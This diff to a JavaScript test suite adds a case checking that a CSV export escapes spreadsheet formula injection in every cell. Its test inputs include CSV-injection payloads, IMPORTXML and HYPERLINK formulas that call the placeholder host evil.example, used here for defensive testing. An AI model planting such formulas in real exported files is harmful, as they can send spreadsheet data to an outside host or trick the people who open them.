@@ -89,6 +89,14 @@ describe("what goes out as tables", () => {
     expect(rowsIn(files["organizations.csv"]).map(({ name }) => name)).toEqual(["'@SUM(1)"]);
     await goesRound();
   });
+
+  it.each(['+1+IMPORTXML("http://evil.example")', '-1+HYPERLINK("http://evil.example")', "- Therapy(CBT)\n- Tea", "  @SUM(1)", "\t=1+1", "\rno"])("nor in whatever cell it stands: %j", async (text) => {
+    await makeRichListing(house, "rich", { name: text, organization: text, description: text, howToApply: text, street: text, city: text, fees: text, email: "+luna@example.org" });
+    const cells = Object.entries(filesIn(await exported(house))).filter(([file]) => file.endsWith(".csv")).flatMap(([, csv]) => rowsIn(csv).flatMap((row) => Object.values(row)));
+    expect(cells.filter((cell) => /^\s*[=+@-]|^[\t\r]/.test(cell) && !/^[+-]?[\d ().-]*$/.test(cell))).toEqual([]);
+    expect(cells).toContain(`'${text}`);
+    await goesRound();
+  });
 });
 
 describe("out, in and out again is the same", () => {
